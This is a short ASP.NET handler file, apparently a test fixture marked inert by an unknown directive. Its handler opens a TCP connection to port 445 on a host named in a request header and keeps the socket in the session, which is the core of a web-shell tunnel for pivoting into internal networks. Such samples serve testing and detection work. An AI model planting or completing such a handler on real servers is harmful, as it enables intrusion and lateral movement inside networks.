<%@ Inert Reason="made for a test: an unknown directive stops the compiler before anything runs" %>
<%@ WebHandler Language="C#" Class="Made" %>
using System.Web; using System.Net.Sockets;
public class Made : IHttpHandler {
  public bool IsReusable { get { return false; } }
  public void ProcessRequest(HttpContext context) {
    Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
    s.Connect(context.Request.Headers["X-Made"], 445);
    context.Session["made"] = s;
  }
}
